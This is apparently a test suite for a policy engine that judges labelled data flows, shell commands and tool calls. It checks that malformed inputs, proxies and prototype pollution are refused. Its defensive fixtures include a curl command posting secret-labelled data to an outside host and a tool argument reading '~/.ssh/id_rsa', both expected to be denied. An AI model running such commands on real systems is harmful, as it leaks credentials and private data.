/** Descriptors, operations and calls of tools that hosts may pass by mistake or by malice: refused, or judged as read. */

import assert from "node:assert/strict";
import { afterEach, test } from "node:test";
import vm from "node:vm";
import { loadMeasured } from "../support/installed.mjs";

const { LabelSet, PolicyEngine, PreparedOperation, mergeDescriptors, moduleBytes, operationLabels } = loadMeasured();

const policy = { name: "strict", labels: { secret: { deny: ["op:show", "net:w"] } }, deny: ["sh"] };
const tools = { send: { labels: ["tool:w"], args: { to: "destination", body: "value" }, controlArgs: ["to"] } };
const engine = new PolicyEngine(policy, { base: "/work", home: "/home/u", tools });
const show = { type: "show" };

// Whatever was refused, the module still works.
afterEach(() => {
  assert.equal(engine.checkFlow(show, ["secret"]).decision, "deny");
});

const throwing = () => {
  throw new Error("from the host");
};
const everything = new Proxy({}, { get: throwing, ownKeys: throwing, getPrototypeOf: throwing, has: throwing });
const revoked = (target = {}) => {
  const { proxy, revoke } = Proxy.revocable(target, {});
  revoke();
  return proxy;
};
const cyclic = { a: [] };
cyclic.a.push(cyclic);
const nested = (depth) => {
  let value = [];
  for (let level = 0; level < depth; level += 1) value = [value];
  return value;
};
const endless = (length, item) => new Proxy([], { get: (_, key) => (key === "length" ? length : item) });
const hidden = (key, value) => Object.defineProperty({}, key, { value });

/** Every way to pass a descriptor, with the name that messages give it. */
const takers = [
  ["labels", "value", (value) => engine.labels(value)],
  ["checkFlow", "inputs", (value) => engine.checkFlow(show, value)],
  ["enforceFlow", "inputs", (value) => engine.enforceFlow(show, value)],
  ["explainFlow", "inputs", (value) => engine.explainFlow(show, value)],
  ["checkFlow", "options.destination", (destination) => engine.checkFlow(show, [], { destination })],
  ["checkFlow", "options.target", (target) => engine.checkFlow(show, [], { target })],
  ["checkFlow", "inputs[1]", (value) => engine.checkFlow(show, [[], value])],
  ["checkCommand", "options.inputs[0]", (value) => engine.checkCommand("ls", { inputs: [value] })],
  ["checkToolCall", "call.inputs.to", (to) => engine.checkToolCall({ tool: "send", inputs: { to } })],
  ["checkToolCall", "call.inputs.to[0]", (to) => engine.checkToolCall({ tool: "send", inputs: { to: [to] } })],
  ["labelToolResult", "call.inputs.to", (to) => engine.labelToolResult({ tool: "send", inputs: { to } })],
  ["labelToolResult", "known", (value) => engine.labelToolResult({ tool: "send" }, value)],
  ["changeLabels", "value", (value) => engine.changeLabels(value, {})],
  ["mergeDescriptors", "values[0]", (value) => mergeDescriptors(value)],
];

const notDescriptors = {
  null: null,
  "a number": 7,
  "a bigint": 7n,
  "a symbol": Symbol("x"),
  "a function": () => ["secret"],
  "a Set": new Set(["secret"]),
  "a boxed string": new String("secret"),
  "a class": new (class Descriptor {
    labels = ["secret"];
  })(),
  "inherited labels": Object.create({ labels: ["secret"] }),
  "an unknown key": { label: ["secret"] },
  "a symbol as a key": { [Symbol("labels")]: ["secret"] },
  "a hidden key": hidden("labels", ["secret"]),
  "labels that are no list": { labels: "secret" },
  "labels that are null": { labels: null },
  "labels in a Set": { labels: new Set(["secret"]) },
  "a label that is a number": { labels: [7] },
  "a label that is a boxed string": { labels: [new String("secret")] },
  "a hole": { labels: ["a", , "secret"] },
  "a huge hole": { labels: new Array(2 ** 32 - 1) },
  "an endless list": { labels: endless(2 ** 53, "secret") },
  "a list of no length": { labels: endless(NaN, "secret") },
  "a list of lists": { labels: [["secret"]] },
  "a lone surrogate": { labels: ["secret\ud800"] },
  "a label that is far too long": { labels: ["x".repeat(1024 * 1024 + 1)] },
  "labels that are far too many bytes": { labels: Array.from({ length: 20 }, () => "x".repeat(1024 * 1024)) },
  "tools that are no list": { tools: {} },
  "a tool that is a text": { tools: ["send"] },
  "a tool without a name": { tools: [{ auditRef: "r1" }] },
  "a tool with an unknown key": { tools: [{ name: "send", auditref: "r1" }] },
  "a tool with cyclic arguments": { tools: [{ name: "send", args: cyclic }] },
  "a tool with deep arguments": { tools: [{ name: "send", args: nested(5_000) }] },
  "a tool with a function": { tools: [{ name: "send", args: [() => 1] }] },
  "a throwing getter": Object.defineProperty({}, "labels", { enumerable: true, get: throwing }),
  "a proxy that throws": everything,
  "a revoked proxy": revoked(),
  "a revoked list": { labels: revoked([]) },
  "a prototype that is no set": Object.create(LabelSet.prototype),
  "a proxy of a set": new Proxy(engine.labels(["draft"]), {}),
};
for (const [name, value] of Object.entries(notDescriptors)) {
  test(`no descriptor: ${name}`, () => {
    for (const [method, called, take] of takers) {
      assert.throws(
        () => take(value),
        (error) =>
          error instanceof TypeError && (error.message.startsWith(`${method}: `) || /revoked/.test(error.message)),
        `${method}: ${called}`,
      );
    }
  });
}

test("messages name the place", () => {
  const message = (run, expected) => assert.throws(run, new TypeError(expected));
  message(() => engine.checkFlow(show, [[], { labels: [7] }]), "checkFlow: inputs[1].labels[0] must be a string");
  message(
    () => engine.checkFlow(show, { label: [] }),
    'checkFlow: inputs has no key "label"; it knows labels, taint, sources, tools',
  );
  message(() => engine.checkFlow(show), "checkFlow: inputs must be an object, not undefined");
  message(() => engine.checkFlow({}, []), "checkFlow: operation.type must be a string");
  message(() => engine.checkFlow("show", []), "checkFlow: operation must be an object, not a string");
  message(() => engine.checkFlow({ type: "cmd", command: 7 }, []), "checkFlow: operation.command must be a string");
  message(
    () => operationLabels({ type: "cmd", metadata: { commandPreview: ["ls"] } }),
    "operationLabels: operation.metadata.commandPreview must be a string",
  );
  message(() => engine.checkToolCall({ args: {} }), "checkToolCall: call.tool must be a string");
  message(
    () => engine.checkToolCall({ tool: "t", args: { to: [() => 1] } }),
    "checkToolCall: call.args.to: [0] is a function, and only JSON data is accepted",
  );
  message(() => engine.changeLabels([], { add: "x" }), "changeLabels: change.add must be an array of strings");
  message(() => mergeDescriptors([], { taint: [1] }), "mergeDescriptors: values[1].taint[0] must be a string");
});

test("lists that mix labels and descriptors are refused", () => {
  for (const mixed of [
    ["secret", {}],
    [{}, "secret"],
    [[], "secret"],
    ["secret", ["secret"]],
    ["draft", engine.labels([])],
  ]) {
    assert.throws(() => engine.checkFlow(show, mixed), /inputs mixes labels/);
    assert.throws(() => engine.checkFlow(show, [], { target: mixed }), /options.target mixes labels/);
    assert.throws(() => engine.checkToolCall({ tool: "send", inputs: { to: mixed } }), /call.inputs.to mixes labels/);
  }
});

test("operations, calls, changes and options: wrong shapes are refused", () => {
  const operations = [
    undefined,
    null,
    [],
    "show",
    {},
    { type: 7 },
    { type: "show", kind: "x" },
    { type: "show", labels: "x" },
  ];
  operations.push({ type: "show", opLabels: [7] }, { type: "show", subtype: 7 }, { type: "show", name: 7 }, everything);
  operations.push(
    { type: "show", metadata: "ls" },
    { type: "show", metadata: new Map() },
    { type: "show", metadata: [] },
  );
  operations.push(
    { type: "cmd", command: "a\ud800" },
    { type: "x".repeat(2 ** 20 + 1) },
    Object.create({ type: "show" }),
  );
  operations.push(Object.create(PreparedOperation.prototype), new Proxy(engine.operation(show), {}));
  for (const operation of operations) {
    for (const method of ["checkFlow", "enforceFlow", "explainFlow"]) {
      assert.throws(() => engine[method](operation, []), TypeError);
      assert.throws(() => engine[method](operation, engine.labels([])), TypeError);
    }
    assert.throws(() => engine.operation(operation), TypeError);
    assert.throws(() => operationLabels(operation), TypeError);
  }
  const calls = [
    undefined,
    null,
    [],
    "send",
    {},
    { tool: 7 },
    { tool: "t", server: 7 },
    { tool: "t", server: null },
    everything,
  ];
  calls.push(
    { tool: "t", args: [] },
    { tool: "t", args: null },
    { tool: "t", args: new Map() },
    { tool: "t", labels: "x" },
  );
  calls.push({ tool: "t", arguments: {} }, { tool: "t", inputs: [] }, { tool: "t", args: cyclic }, { tool: "t\udc00" });
  calls.push({ tool: "t", args: { a: 7n } }, { tool: "t", args: { a: NaN } }, { tool: "t", args: { a: [undefined] } });
  calls.push({ tool: "t", args: { a: nested(100_000) } }, { tool: "t", args: { a: "x".repeat(17 * 1024 * 1024) } });
  calls.push(
    { tool: "t", args: { a: new Date() } },
    { tool: "t", args: hidden("a", 1) },
    { tool: "t", args: { "\ud800": 1 } },
  );
  for (const call of calls) {
    for (const method of ["checkToolCall", "enforceToolCall", "explainToolCall", "labelToolResult"]) {
      assert.throws(() => engine[method](call), TypeError, method);
    }
  }
  for (const change of [
    undefined,
    null,
    [],
    "bless",
    { bles: true },
    { bless: "yes" },
    { clear: 1 },
    { add: [7] },
    everything,
  ]) {
    assert.throws(() => engine.changeLabels([], change), TypeError);
  }
  for (const options of [null, "privileged", [], { privileged: 1 }, { privilege: true }, everything]) {
    assert.throws(() => engine.changeLabels([], {}, options), TypeError);
  }
  for (const options of [null, [], "x", { destinations: [] }, everything]) {
    assert.throws(() => engine.checkFlow(show, [], options), TypeError);
    assert.throws(() => engine.checkFlow(engine.operation(show), engine.labels([]), options), TypeError);
  }
  for (const wrong of [7, "tools", null, () => ({}), { t: undefined }, cyclic]) {
    assert.throws(() => new PolicyEngine({}, { tools: wrong }), TypeError);
  }
  assert.throws(
    () => new PolicyEngine({}, { tools: { t: { label: [] } } }),
    ({ problems: [{ code, path }] }) => code === "INVALID_OPTION" && path === "tools.t.label",
  );
});

test("spans stand within the text, or are refused", () => {
  const at = (span, text = "curl x") => engine.checkCommand(text, { inputs: [{ labels: ["draft"], span }] });
  const wrong = [
    null,
    [],
    7,
    {},
    { start: 0 },
    { start: 0, end: 7 },
    { start: -1, end: 2 },
    { start: 3, end: 2 },
  ];
  wrong.push(
    { start: 0.5, end: 2 },
    { start: NaN, end: 2 },
    { start: 0, end: Infinity },
    { start: "0", end: 2 },
    everything,
  );
  wrong.push({ start: 0n, end: 2 }, { start: 0, end: 2, length: 2 }, { start: { valueOf: () => 0 }, end: 2 });
  for (const span of wrong) assert.throws(() => at(span), TypeError);
  for (const span of [undefined, { start: 2, end: 2 }, { start: 0, end: 6 }, { start: -0, end: 1 }]) at(span);
  for (const inputs of [null, {}, "secret", ["secret"], [[7]], [[{}]]]) {
    assert.throws(() => engine.checkCommand("ls", { inputs }), TypeError);
  }
  assert.throws(() => engine.analyzeCommand("ls", { inputs: [] }), TypeError);
  assert.equal(engine.checkCommand("ls", { inputs: undefined }).decision, "allow");
  assert.equal(engine.checkCommand("ls", { inputs: [] }).decision, "allow");
  assert.equal(
    engine.checkCommand("curl -d x https://x.example/", { inputs: [engine.labels(["secret"])] }).decision,
    "deny",
  );
  // A request that has ended before is spared. A place in the middle of a character is none: the value counts everywhere.
  const line = "curl -d x https://x.example/; echo 🦀";
  const crab = line.indexOf("🦀");
  const value = (start, end) => ({ inputs: [{ labels: ["secret"], span: { start, end } }] });
  assert.equal(engine.checkCommand(line, value(crab, crab + 2)).decision, "allow");
  assert.equal(engine.checkCommand(line, value(crab + 1, crab + 2)).decision, "deny");
  const long = `echo ${"x".repeat(2 ** 21)}`;
  assert.equal(engine.checkCommand(long, value(2 ** 21, 2 ** 21 + 1)).decision, "deny");
});

test("each property is read once, so that what was judged is what is used", () => {
  const reads = {};
  const changing = (target, later) =>
    new Proxy(target, {
      get(from, key) {
        reads[key] = (reads[key] ?? 0) + 1;
        return reads[key] === 1 ? from[key] : later;
      },
    });
  const once = (run, expected) => {
    for (const key of Object.keys(reads)) delete reads[key];
    assert.equal(run().decision, expected);
    assert.ok(
      Object.values(reads).every((count) => count === 1),
      JSON.stringify(reads),
    );
  };
  once(() => engine.checkFlow(show, changing({ labels: ["secret"], taint: [] }, [])), "deny");
  once(() => engine.checkFlow(show, changing(["secret"], "draft")), "deny");
  once(
    () => engine.checkFlow(changing({ type: "cmd", command: "git push", metadata: {} }, undefined), ["secret"]),
    "deny",
  );
  once(() => engine.checkFlow({ type: "cmd", metadata: changing({ command: "git push" }, "ls") }, ["secret"]), "deny");
  once(() => engine.checkFlow(show, [], changing({ destination: ["secret"] }, undefined)), "allow");
  once(
    () => engine.checkToolCall(changing({ tool: "send", args: {}, labels: ["net:w"], inputs: { to: ["secret"] } }, [])),
    "deny",
  );
  const inputs = [{ labels: ["secret"], span: changing({ start: 8, end: 9 }, 0) }];
  once(
    () => engine.checkCommand("curl -d x https://x.example/", changing({ inputs, shell: "bash" }, undefined)),
    "deny",
  );
});

test("names that objects have by themselves are names like any other", () => {
  for (const name of ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"]) {
    const strict = new PolicyEngine(
      JSON.parse(`{ "labels": { "${name}": { "deny": ["op:show"] } }, "authorizations": { "allow": { "ok": true } } }`),
      { tools: JSON.parse(`{ "${name}": { "labels": ["tool:r"], "args": { "${name}": "fs:r" } } }`) },
    );
    assert.equal(strict.checkFlow(show, [name]).decision, "deny");
    assert.equal(strict.checkToolCall({ tool: name }).decision, "allow");
    assert.equal(strict.checkToolCall({ tool: `${name}2` }).decision, "deny");
    const secret = JSON.parse(`{ "tool": "${name}", "args": { "${name}": "~/.ssh/id_rsa" } }`);
    assert.equal(strict.checkToolCall(secret).decision, "deny");
    const labelled = strict.labelToolResult({ tool: name, inputs: JSON.parse(`{ "${name}": ["pii"] }`) });
    assert.deepEqual([labelled.labels, labelled.sources], [["pii"], [`mcp:${name}`]]);
    assert.throws(() => strict.labels(JSON.parse(`{ "${name}": ["pii"] }`)), TypeError);
    assert.throws(() => strict.checkToolCall(JSON.parse(`{ "tool": "t", "${name}": {} }`)), TypeError);
    const [use] = mergeDescriptors({ tools: [{ name, args: JSON.parse(`{ "${name}": 1 }`) }] }).tools;
    assert.ok(Object.hasOwn(use.args, name) && Object.getPrototypeOf(use.args) === Object.prototype);
    strict.free();
  }
});

test("what was put on Object.prototype or Array.prototype changes nothing", () => {
  const [into, value] = [engine.operation({ type: "cmd", command: "git push" }), engine.labels(["secret"])];
  const args = { inputs: {}, args: {}, command: "ls", span: {}, destination: ["known"] };
  const polluted = { labels: [], taint: [], privileged: true, clear: true, ...args };
  const swallow = { configurable: true, get: () => "draft", set() {} };
  const swallowed = ["decision", "code", "kind", "label", "type", "tool"];
  Object.assign(Object.prototype, polluted);
  for (const key of swallowed) Object.defineProperty(Object.prototype, key, swallow);
  for (const index of [0, 1, 2]) Object.defineProperty(Array.prototype, index, swallow);
  const seen = {};
  try {
    seen.flow = engine.checkFlow(into, value).code;
    seen.plain = engine.checkFlow(JSON.parse('{"type":"show"}'), JSON.parse('["secret"]')).code;
    seen.set = engine.labels(JSON.parse('["secret","pii"]')).labels.length;
    seen.merged = JSON.stringify(mergeDescriptors(JSON.parse('["secret"]'), {}).labels);
    seen.call = engine.checkToolCall(JSON.parse('{"tool":"send","labels":["net:w"],"inputs":{"to":["secret"]}}')).code;
    try {
      engine.changeLabels(JSON.parse('["secret"]'), JSON.parse('{"remove":["secret"]}'));
    } catch (error) {
      seen.change = error;
    }
  } finally {
    for (const key of [...Object.keys(polluted), ...swallowed]) delete Object.prototype[key];
    for (const index of [0, 1, 2]) delete Array.prototype[index];
  }
  assert.equal(seen.change.code, "PROTECTED_LABEL_REMOVAL");
  delete seen.change;
  const denied = "POLICY_LABEL_FLOW_DENIED";
  assert.deepEqual(seen, { flow: denied, plain: denied, set: 2, merged: '["secret"]', call: denied });
});

test("arguments as deep as is read keep their shape", () => {
  const args = nested(98);
  const [use] = mergeDescriptors({ tools: [{ name: "t", args }] }).tools;
  assert.deepEqual(use.args, args);
  assert.equal(engine.checkFlow(show, [{ tools: [use] }]).decision, "allow");
  assert.equal(engine.checkToolCall({ tool: "t", args: { a: args } }).decision, "allow");
  assert.equal(engine.explainToolCall({ tool: "t", args: { a: args }, inputs: { a: { tools: [use] } } }).decision, "allow");
});

test("objects of another realm are plain objects too", () => {
  const foreign = vm.runInNewContext('({ show: { type: "show" }, value: { labels: ["secret"] }, list: ["secret"] })');
  assert.equal(engine.checkFlow(foreign.show, foreign.value).decision, "deny");
  assert.equal(engine.checkFlow(foreign.show, foreign.list).decision, "deny");
  assert.equal(engine.checkFlow(Object.assign(Object.create(null), show), ["secret"]).decision, "deny");
});

test("what is large is answered or refused in seconds, and the memory stays small", () => {
  const before = moduleBytes();
  const many = Array.from({ length: 200_000 }, (_, index) => `label-${index}`);
  assert.equal(engine.checkFlow(show, [...many, "secret"]).decision, "deny");
  assert.equal(engine.checkFlow(show, [...many.map(() => []), ["secret"]]).decision, "deny");
  assert.equal(mergeDescriptors({ labels: many }, many).labels.length, 200_000);
  const shared = many.map(() => many);
  for (const value of [shared, { tools: [{ name: "t", args: shared }] }]) {
    assert.throws(() => engine.checkFlow(show, value), /checkFlow: what it was given is larger than 16 MiB/);
  }
  assert.equal(engine.checkToolCall({ tool: "t", args: { a: many } }).decision, "allow");
  assert.ok(moduleBytes() - before < 256 * 1024 * 1024);
  // A command far too long is cut, and not understood; so it may be anything.
  assert.ok(operationLabels({ type: "cmd", command: "a".repeat(50 * 1024 * 1024) }).includes("*"));
});
